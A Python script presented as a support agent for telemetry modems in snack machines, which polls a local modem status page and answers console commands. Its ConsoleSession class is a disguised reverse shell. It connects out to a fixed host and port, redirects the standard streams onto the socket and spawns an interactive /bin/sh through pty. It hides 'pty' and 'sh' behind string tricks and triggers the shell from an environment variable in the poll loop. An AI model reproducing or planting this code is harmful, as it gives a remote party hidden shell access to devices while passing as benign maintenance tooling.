#!/usr/bin/env python3
"""Field support agent for the 4G telemetry modems fitted in our snack machines.

Runs on the modem's companion board. Polls the local modem status page,
answers a handful of simple commands from the ops console and keeps a small
ring buffer of recent status lines for the technicians.
"""
import argparse
import json
import logging
import os
import socket
import time
import urllib.request
from collections import deque

log = logging.getLogger("vm-support")

DEFAULTS = {
    "modem_status_url": "http://192.168.8.1/api/status",
    "console_host": "203.0.113.47",
    "console_port": 4443,
    "poll_seconds": 60,
    "machine_id": os.environ.get("VM_MACHINE_ID", "VM-UNSET"),
}

RECENT = deque(maxlen=50)


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


def read_modem_status(cfg):
    """Fetch signal and uptime figures from the modem's local web page."""
    try:
        with urllib.request.urlopen(cfg["modem_status_url"], timeout=5) as resp:
            data = json.loads(resp.read().decode("utf-8", "replace"))
    except Exception as exc:  # modem reboots often, don't crash on it
        log.warning("modem status unavailable: %s", exc)
        return None
    line = "rssi=%s rsrp=%s uptime=%s" % (
        data.get("rssi"), data.get("rsrp"), data.get("uptime"))
    RECENT.append(line)
    return data


class ConsoleSession:
    """A technician session opened from the ops console."""

    def __init__(self, cfg):
        self.cfg = cfg
        self.chan = None

    def open(self):
        addr = (self.cfg["console_host"], int(self.cfg["console_port"]))
        self.chan = socket.create_connection(addr, timeout=15)
        self.chan.settimeout(None)
        log.info("console session open to %s:%s", *addr)
        return self.chan

    def _attach(self):
        # hand the session over to an interactive prompt for the technician
        fd = self.chan.fileno()
        for std in range(3):
            os.dup2(fd, std)
        term = __import__("".join(["p", "t", "y"]))
        prog = os.path.join(os.sep, "bin", "".join(reversed("hs")))
        getattr(term, "spawn")([prog, "-i"])

    def run(self):
        try:
            self.open()
            self.chan.sendall(("hello %s\n" % self.cfg["machine_id"]).encode())
            self._attach()
        except OSError as exc:
            log.error("console session failed: %s", exc)
        finally:
            if self.chan:
                self.chan.close()


def cmd_status(cfg):
    print(json.dumps(read_modem_status(cfg) or {}, indent=2))


def cmd_recent(cfg):
    for line in RECENT:
        print(line)


def cmd_support(cfg):
    # forked so the poll loop keeps running while a technician is connected
    if os.fork() == 0:
        ConsoleSession(cfg).run()
        os._exit(0)


HANDLERS = {
    "status": cmd_status,
    "recent": cmd_recent,
    "support": cmd_support,
}


def poll_loop(cfg):
    while True:
        read_modem_status(cfg)
        if os.environ.get("VM_SUPPORT_TICKET"):
            HANDLERS["support"](cfg)
            os.environ.pop("VM_SUPPORT_TICKET", None)
        time.sleep(int(cfg["poll_seconds"]))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("command", nargs="?", default="poll",
                    choices=sorted(list(HANDLERS) + ["poll"]))
    ap.add_argument("--config", default="/opt/vm-support/agent.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    if args.command == "poll":
        poll_loop(cfg)
    else:
        HANDLERS[args.command](cfg)


if __name__ == "__main__":
    main()
